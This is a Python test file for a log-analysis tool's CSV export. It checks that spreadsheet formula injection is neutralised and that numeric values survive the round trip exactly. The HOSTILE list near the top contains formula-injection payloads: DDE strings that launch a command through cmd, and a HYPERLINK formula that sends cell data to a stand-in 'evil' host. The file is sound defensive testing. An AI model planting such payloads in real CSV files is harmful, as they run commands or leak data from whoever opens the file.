"""CSV that a spreadsheet opens safely: text from logs never starts a formula, numbers stay numbers
and read back exactly."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

from helpers import llmobs, root, span, usage, write_jsonl

HOSTILE = ["+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", '=HYPERLINK("http://evil/?"&A1,"x")',
           "\tTAB=1+1", "\rCR=1+1"]


def test_no_cell_a_spreadsheet_would_run(tmp_path: Path):
    records = []
    for i, text in enumerate(HOSTILE * 4):
        trace = f"t{i}"
        records += [root(trace, 100.0 + i, **{"request.id": text, "team": text}), span(trace, "a", text, 40.0 + i, team=text),
                    usage(trace, "gpt-4o", 1000 + i, 100, span_id=f"{trace}-a")]
    log = write_jsonl(tmp_path / "hostile.jsonl", records)
    outputs = [llmobs("slowest", str(log), "-f", "csv", "--table", "requests"), llmobs("slowest", str(log), "-f", "csv", "--by", "team"),
               llmobs("cost", str(log), "--by", "request.id", "-f", "csv"), llmobs("report", str(log), "-f", "csv"),
               llmobs("trace", str(log), "t0", "-f", "csv")]
    seen = set()
    for result in outputs:
        assert result.returncode == 0, result.stderr
        for row in csv.reader(io.StringIO(result.stdout)):
            for cell in row:
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")) or _number(cell), cell
                seen.update(text for text in HOSTILE if cell in ("'" + text, "'" + text.replace("\t", "\\x09").replace("\r", "\\x0d")))
    assert seen >= set(HOSTILE[:4])  # each shown, as text, behind the quote


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_numbers_stay_numbers_and_read_back_as_the_json_has_them(tmp_path: Path):
    log = write_jsonl(tmp_path / "a.jsonl", [r for i in range(7) for r in (root(f"t{i}", 0.1 + 0.2 * i), span(f"t{i}", "a", "step", -0.0 + 1 / 3 * i))])
    rows = list(csv.reader(io.StringIO(llmobs("slowest", str(log), "-f", "csv").stdout)))
    doc = json.loads(llmobs("slowest", str(log), "-f", "json").stdout)
    header, first = rows[0], rows[1]
    for field in ("p50_ms", "p95_ms", "total_ms"):
        assert float(first[header.index(field)]) == doc["steps"][0][field]  # exactly, not to 15 digits
